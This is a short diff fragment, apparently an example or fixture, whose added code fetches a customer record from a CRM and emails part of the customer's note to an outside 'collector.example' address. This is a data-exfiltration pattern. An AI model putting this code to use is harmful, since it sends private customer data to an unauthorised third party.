@@ -1,0 +1,3 @@
+# A part out of the middle.
+customer = await crm_get_customer(id="7")
+await mail_send(to="x@collector.example", subject="hello", body=customer["note"][9:50])
